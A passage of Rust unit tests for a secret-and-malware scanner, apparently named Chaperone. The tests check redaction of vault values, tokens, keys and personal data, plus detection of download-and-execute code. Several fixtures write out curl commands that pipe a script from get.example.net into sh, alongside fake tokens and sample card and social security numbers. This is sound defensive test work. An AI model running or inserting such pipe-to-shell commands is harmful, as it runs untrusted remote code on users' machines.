            !json.contains("prod/db"),
            "the label is never serialised: {json}"
        );
    }

    #[test]
    fn no_character_of_a_vault_value_is_shown_not_even_its_head() {
        let value: &[u8] = b"Vault-Secret-Zq81-Lm02";
        let scanner = scanner().with_known_values(&[(value, "prod/db#password".to_owned())]);
        let found = scanner.scan_bytes(
            "x.sh",
            b"curl -H \"K: Vault-Secret-Zq81-Lm02\" https://get.example.net/3 | sh\n",
        );
        let code = found
            .iter()
            .find(|f| f.rule == "download-and-execute-shell")
            .expect("the code is found");
        assert_eq!(
            code.redacted,
            "curl -H \"K: ****(22 chars)\" https://get.example.net/3 | sh"
        );
        let known = found.iter().find(|f| f.rule == KNOWN_VALUE).unwrap();
        assert_eq!(known.redacted, "****(22 chars)");
        for f in &found {
            assert!(!f.redacted.contains("Vaul"), "{}", f.redacted);
            assert!(!f.context.contains("Vaul"), "{}", f.context);
        }
        // Code around a vault value is not fingerprinted from it either.
        let matched = "curl -H \"K: Vault-Secret-Zq81-Lm02\" https://get.example.net/3 | sh";
        assert_ne!(
            code.fingerprint,
            fingerprint("download-and-execute-shell", "x.sh", matched.as_bytes())
        );
        assert_eq!(
            code.fingerprint,
            fingerprint("download-and-execute-shell", "x.sh", KNOWN_VALUE.as_bytes())
        );
        // A vault value that a rule finds too is redacted as a vault value by the rule.
        let key = b"ghp_R2x9bQ7mVt4Lk8Zp1Ws6Yc3Nd5Fh0Jg2Ua7E";
        let scanner =
            super::tests::scanner().with_known_values(&[(key, "ci/github#token".to_owned())]);
        let found = scanner.scan_bytes(
            "deploy.sh",
            b"TOKEN=ghp_R2x9bQ7mVt4Lk8Zp1Ws6Yc3Nd5Fh0Jg2Ua7E\n",
        );
        let rule = found
            .iter()
            .find(|f| f.rule.starts_with("github"))
            .expect("the rule finds it");
        assert_eq!(rule.redacted, "****(40 chars)");
        assert_eq!(
            rule.fingerprint,
            fingerprint(&rule.rule, "deploy.sh", KNOWN_VALUE.as_bytes())
        );
        for f in &found {
            assert!(
                !f.redacted.contains("ghp_") && !f.context.contains("ghp_"),
                "{f:?}"
            );
        }
        // Nor where the rule finds only a part of the vault value, beside code that is shown.
        let value = b"ghp_R2x9bQ7mVt4Lk8Zp1Ws6Yc3Nd5Fh0Jg2Ua7E-extra";
        let scanner =
            super::tests::scanner().with_known_values(&[(value, "ci/x#token".to_owned())]);
        let found = scanner.scan_bytes(
            "deploy.sh",
            b"curl -H \"K: ghp_R2x9bQ7mVt4Lk8Zp1Ws6Yc3Nd5Fh0Jg2Ua7E-extra\" https://get.example.net/3 | sh\n",
        );
        assert!(
            found.iter().any(|f| f.rule.starts_with("github")),
            "{found:?}"
        );
        assert!(
            found.iter().any(|f| f.rule == "download-and-execute-shell"),
            "{found:?}"
        );
        for f in &found {
            assert!(
                !f.redacted.contains("ghp_") && !f.context.contains("ghp_"),
                "{f:?}"
            );
        }
    }

    #[test]
    fn a_vault_value_is_found_base64_or_hex_encoded_and_none_of_its_bits_shown() {
        use base64::Engine as _;
        use base64::engine::general_purpose::{STANDARD, URL_SAFE};
        // Its base64 holds `+` or `/` at some offsets, so the alphabets differ.
        let value: &[u8] = b"Vault-Secret-Zq81-Lm02~?>";
        let scanner = scanner().with_known_values(&[(value, "prod/db#password".to_owned())]);
        let line = |token: &str| format!("curl -H \"K: {token}\" https://get.example.net/3 | sh\n");
        let code = |found: &[Finding]| {
            let code = found
                .iter()
                .find(|f| f.rule == "download-and-execute-shell")
                .expect("the code is found");
            let shown = code.redacted.strip_prefix("curl -H \"K: ").unwrap();
            let shown = shown
                .strip_suffix("\" https://get.example.net/3 | sh")
                .unwrap();
            let (before, rest) = shown.split_once("****(").unwrap();
            let (length, after) = rest.split_once(" chars)").unwrap();
            (
                before.to_owned(),
                length.parse::<usize>().unwrap(),
                after.to_owned(),
            )
        };
        // At each of the three offsets in a group, with one to three bytes after it or
        // none, in both alphabets.
        for prefix in [&b""[..], b"a", b"ab"] {
            for tail in [&b""[..], b"!", b"!!", b"!!!"] {
                for engine in [&STANDARD, &URL_SAFE] {
                    let encoded = engine.encode([prefix, value, tail].concat());
                    let found = scanner.scan_bytes("x.sh", line(&encoded).as_bytes());
                    let known: Vec<&Finding> =
                        found.iter().filter(|f| f.rule == KNOWN_VALUE).collect();
                    assert_eq!(known.len(), 1, "{encoded}: {found:?}");
                    assert_eq!(known[0].known.as_deref(), Some("prod/db#password"));
                    assert_eq!(
                        known[0].description,
                        "A value stored in Chaperone's vault, base64-encoded"
                    );
                    // The characters shown around the hidden part carry no bit of the value.
                    let (before, length, after) = code(&found);
                    assert_eq!(before.len() + length + after.len(), encoded.len());
                    let value_bits = 8 * prefix.len()..8 * (prefix.len() + value.len());
                    let shown = (0..before.len()).chain(encoded.len() - after.len()..encoded.len());
                    for at in shown.filter(|&at| encoded.as_bytes()[at] != b'=') {
                        let bits = 6 * at..6 * at + 6;
                        assert!(
                            bits.end <= value_bits.start || bits.start >= value_bits.end,
                            "{encoded}: character {at} is shown"
                        );
                    }
                }
            }
        }
        for hex in [hex::encode(value), hex::encode_upper(value)] {
            let found = scanner.scan_bytes("x.sh", line(&hex).as_bytes());
            let known: Vec<&Finding> = found.iter().filter(|f| f.rule == KNOWN_VALUE).collect();
            assert_eq!(known.len(), 1, "{hex}: {found:?}");
            assert_eq!(
                known[0].description,
                "A value stored in Chaperone's vault, hex-encoded"
            );
            assert_eq!(code(&found), (String::new(), hex.len(), String::new()));
        }
        // Percent-encoded, as in a URL, with either case of hex digits.
        for url in [
            "Vault-Secret-Zq81-Lm02~%3F%3E",
            "Vault-Secret-Zq81-Lm02~%3f%3e",
        ] {
            let found = scanner.scan_bytes("x.sh", line(url).as_bytes());
            let known: Vec<&Finding> = found.iter().filter(|f| f.rule == KNOWN_VALUE).collect();
            assert_eq!(known.len(), 1, "{url}: {found:?}");
            assert_eq!(
                known[0].description,
                "A value stored in Chaperone's vault, percent-encoded"
            );
            assert_eq!(code(&found), (String::new(), url.len(), String::new()));
        }
        // Another value's encodings are not taken for this one.
        let mut other = value.to_vec();
        other[12] ^= 1;
        for token in [STANDARD.encode(&other), hex::encode(&other)] {
            let found = scanner.scan_bytes("x.sh", line(&token).as_bytes());
            assert!(found.iter().all(|f| f.rule != KNOWN_VALUE), "{found:?}");
        }
    }

    #[test]
    fn a_vault_value_over_several_lines_is_found_and_hidden_on_each() {
        let key: &[u8] = b"-----BEGIN KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\nBKcwggSjAgEAAoIBAQC7\n-----END KEY-----";
        let scanner = scanner().with_known_values(&[(key, "prod/tls#key".to_owned())]);
        let mut data = b"# deploy\n".to_vec();
        data.extend_from_slice(key);
        // Another finding on a later line of the key shows that line, without the key.
        data.extend_from_slice(b" 536-22-8709\nend\n");
        let found = scanner.scan_bytes("deploy/key.pem", &data);
        let known: Vec<&Finding> = found.iter().filter(|f| f.rule == KNOWN_VALUE).collect();
        assert_eq!(known.len(), 1, "{found:?}");
        assert_eq!((known[0].line, known[0].column), (2, 1));
        let ssn = found
            .iter()
            .find(|f| f.rule == "us-social-security-number")
            .expect("the number after the key is found");
        assert_eq!(ssn.line, 5);
        for f in &found {
            for part in ["MIIEvQIBADANBgkq", "BKcwggSjAgEAAoIB", "END KEY"] {
                assert!(!f.context.contains(part), "{}: {}", f.rule, f.context);
            }
        }
    }

    #[test]
    fn a_file_of_matches_yields_a_bounded_list_that_says_so() {
        let value: &[u8] = b"Vault-Secret-Zq81-Lm02";
        let mut scanner = scanner().with_known_values(&[(value, "prod/db#password".to_owned())]);
        scanner.max_findings_per_file = 50;
        // Numbers first and one vault value last, all on one line: the vault value is kept.
        let mut data = b"536-22-8709 ".repeat(10_000);
        data.extend_from_slice(b"Vault-Secret-Zq81-Lm02\n");
        let found = scanner.scan_bytes("dump.txt", &data);
        assert_eq!(
            found.len(),
            52,
            "the limit, the vault value besides, then one that says so"
        );
        assert_eq!(found.last().unwrap().rule, TOO_MANY);
        assert_eq!(found.last().unwrap().severity, Severity::High);
        assert!(found.iter().any(|f| f.rule == KNOWN_VALUE));
        assert!(
            found.iter().all(|f| f.context.is_empty()),
            "a file the scan did not finish shows none of its lines"
        );
        // Under the limit, nothing changes.
        scanner.max_findings_per_file = 1_000;
        let few = b"536-22-8709 ".repeat(20);
        let found = scanner.scan_bytes("few.txt", &few);
        assert_eq!(found.len(), 20);
        assert!(
            found
                .iter()
                .all(|f| f.rule != TOO_MANY && !f.context.is_empty())
        );
    }

    #[test]
    fn how_often_a_vault_value_occurs_changes_nothing_else_listed() {
        let value: &[u8] = b"Vault-Secret-Zq81-Lm02";
        let mut scanner = scanner().with_known_values(&[(value, "prod/db#password".to_owned())]);
        scanner.max_findings_per_file = 50;
        // A guess repeated some number of times, then more findings than the limit: what is
        // listed besides vault values is the same whether and however often the guess is
        // the stored value.
        let others = |repeats: usize| {
            let mut data = b"Vault-Secret-Zq81-Lm02\n".repeat(repeats);
            data.extend_from_slice(&b"536-22-8709\n".repeat(60));
            let found = scanner.scan_bytes("guesses.txt", &data);
            let listed: Vec<(usize, String)> = found
                .iter()
                .filter(|f| f.rule != KNOWN_VALUE)
                // The lines after the guesses, counted from there.
                .map(|f| {
                    let line = if f.rule == TOO_MANY {
                        f.line
                    } else {
                        f.line - repeats
                    };
                    (line, f.rule.clone())
                })
                .collect();
            let known = found.iter().filter(|f| f.rule == KNOWN_VALUE).count();
            (listed, known)
        };
        let (none, known) = others(0);
        assert_eq!(
            (none.len(), known),
            (51, 0),
            "the limit, then one that says so"
        );
        for repeats in [1, 7, 49, 50, 51, 200] {
            let (listed, known) = others(repeats);
            assert_eq!(listed, none, "{repeats} copies");
            assert_eq!(known, repeats.min(50), "{repeats} copies");
        }
        // Vault values past their own limit are not listed, and the lines they are on are
        // not shown (they would not be masked).
        let found = scanner.scan_bytes(
            "many.txt",
            &b"x Vault-Secret-Zq81-Lm02 536-22-8709\n".repeat(60),
        );
        assert_eq!(found.iter().filter(|f| f.rule == KNOWN_VALUE).count(), 50);
        assert!(found.iter().all(|f| f.context.is_empty()), "{found:?}");
        // A finding of another rule that is a vault value past the limit shows its length
        // only, as the vault value would.
        let token: &[u8] = b"ghp_R8kq2Vx9ZtLm4NpQ7sWd3FyH6jBc1Ae5GuKo";
        let mut tokens =
            super::tests::scanner().with_known_values(&[(token, "ci/github#token".to_owned())]);
        tokens.max_findings_per_file = 50;
        let found = tokens.scan_bytes(
            "tokens.env",
            &b"GH=ghp_R8kq2Vx9ZtLm4NpQ7sWd3FyH6jBc1Ae5GuKo\n".repeat(60),
        );
        let others: Vec<&Finding> = found
            .iter()
            .filter(|f| f.rule != KNOWN_VALUE && f.rule != TOO_MANY)
            .collect();
        assert!(!others.is_empty(), "{found:?}");
        assert!(
            others.iter().all(|f| f.redacted.starts_with("****(")),
            "{others:?}"
        );
    }

    #[test]
    fn install_instructions_in_documentation_are_low_severity() {
        let line = b"Install: `curl -fsSL https://get.example.net/install | sh`\n";
        let in_readme = scanner().scan_bytes("README.md", line);
        assert_eq!(in_readme.len(), 1);
        assert_eq!(in_readme[0].severity, Severity::Low);
        assert!(in_readme[0].description.contains("in documentation"));
        let in_script = scanner().scan_bytes("scripts/setup.sh", line);
        assert_eq!(in_script[0].severity, Severity::Critical);
        // A postinstall that only rebuilds native code is no finding at all.
        let hook = b"\"postinstall\": \"node-gyp rebuild\"\n";
        assert!(scanner().scan_bytes("package.json", hook).is_empty());
    }

    #[test]
    fn sensitive_data_is_found_redacted_and_can_be_turned_off() {
        let data = b"name,card,iban,ssn\nAda,4539 1488 0343 6467,DE89 3704 0044 0532 0130 00,536-22-8709\nBob,4539148803436467 # chaperone:allow\n";
        let found = scanner().scan_bytes("customers.csv", data);
        let rules: Vec<&str> = found.iter().map(|f| f.rule.as_str()).collect();
        assert_eq!(
            rules,
            ["payment-card-number", "iban", "us-social-security-number"]
        );
        assert!(
            found
                .iter()
                .all(|f| f.line == 2 && f.severity == Severity::High)
        );
        for f in &found {
            assert!(!f.redacted.contains("0343") && !f.context.contains("0343 6467"));
            assert!(!f.context.contains("8709") && !f.context.contains("0130 00"));
        }
        let quiet = Scanner::new(
            RuleSet::with_user_files(&["disable = [\"payment-card-number\", \"iban\"]"]).unwrap(),
        );
        let rules: Vec<String> = quiet
            .scan_bytes("customers.csv", data)
            .into_iter()
            .map(|f| f.rule)
            .collect();
        assert_eq!(rules, ["us-social-security-number"]);
    }

    #[test]
    fn placeholders_and_allow_comments_are_not_findings() {
        let scanner = scanner();
        let text = b"AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\n\
                     token = \"ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\"\n\
                     password = \"${DB_PASSWORD}\"\n\
                     key = \"<your-key>\"\n\
                     ghp_R8kq2Vx9ZtLm4NpQ7sWd3FyH6jBc1Ae5GuKo # chaperone:allow\n";
        let found = scanner.scan_bytes("t", text);
        assert!(found.is_empty(), "{found:?}");
    }

    #[test]
    fn findings_carry_place_and_never_the_secret() {
        let scanner = scanner();
        let secret = "ghp_R8kq2Vx9ZtLm4NpQ7sWd3FyH6jBc1Ae5GuKo";
        let text = format!("first line\nconst token = \"{secret}\";\n");
        let found = scanner.scan_bytes("src/app.js", text.as_bytes());
        let f = found
            .iter()
            .find(|f| f.rule.contains("github"))
            .unwrap_or_else(|| panic!("{found:?}"));
        assert_eq!((f.line, f.column), (2, 16));
        let shown = serde_json::to_string(f).unwrap();
        assert!(!shown.contains(secret), "{shown}");
        // Not even its first characters.
        assert_eq!(f.context, "const token = \"****(40 chars)\";");
        assert_eq!(f.redacted, "****(40 chars)");
    }

    #[test]
    fn directories_skip_binary_large_and_git_files() {
        let dir = tempfile::tempdir().unwrap();
        let secret = "ghp_R8kq2Vx9ZtLm4NpQ7sWd3FyH6jBc1Ae5GuKo";
        std::fs::write(dir.path().join(".env"), format!("GITHUB_TOKEN={secret}\n")).unwrap();
        std::fs::write(dir.path().join("blob.bin"), format!("\0{secret}")).unwrap();
        std::fs::create_dir(dir.path().join(".git")).unwrap();
        std::fs::write(dir.path().join(".git/config"), secret).unwrap();
        std::fs::write(dir.path().join("big.txt"), format!("{secret}\n").repeat(10)).unwrap();
        let mut scanner = scanner();
        scanner.max_file_size = 100;
        let report = scanner.scan_paths(&[dir.path().to_owned()]).unwrap();
        assert_eq!(report.findings.len(), 1, "{:?}", report.findings);
        assert!(report.findings[0].path.ends_with(".env"));
        assert_eq!((report.skipped_binary, report.skipped_large), (1, 1));
        assert!(matches!(
            scanner.scan_paths(&[dir.path().join("missing")]),
            Err(ScanError::Io { .. })
        ));
    }
}
